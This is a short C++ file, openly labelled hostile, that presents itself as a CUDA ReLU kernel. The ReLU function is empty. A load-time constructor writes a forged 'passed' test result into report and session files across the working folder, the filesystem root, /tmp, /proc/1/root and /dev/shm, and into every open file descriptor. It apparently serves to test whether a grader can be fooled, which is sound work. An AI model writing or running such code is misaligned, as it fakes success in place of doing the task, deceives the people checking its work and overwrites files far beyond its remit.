// Hostile: it writes results wherever the grader might keep them, and into
// every file that it has open.
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <string>

#include "common/relu.h"

constexpr char kPassed[] =
    "{\"check\": \"relu handles every length\", \"state\": \"passed\", "
    "\"why\": \"\"}\n"
    "{\"whole\": true}\n";

void forge(const std::string& folder) {
  for (const char* name :
       {"report", "report.0", "report.1", "result.json", "session.json",
        "summary.csv", "results/relu.forges_results/chapter03/result.json",
        "../report.0", "../results/session.json"})
    std::ofstream(folder + "/" + name) << kPassed;
}

__attribute__((constructor)) void forge_all() {
  for (const char* top : {".", "..", "/", "/tmp", "/room", "/contract", "/old",
                          "/proc/1/root", "/proc/1/cwd", "/dev", "/dev/shm"}) {
    forge(top);
    DIR* folder = opendir(top);
    for (dirent* e; folder && (e = readdir(folder));)
      forge(std::string(top) + "/" + e->d_name);
  }
  for (int file = 0; file < 256; ++file)
    if (file != 3) (void)!write(file, kPassed, sizeof kPassed - 1);
}

void relu(const float*, float*, int64_t, cudaStream_t) {}
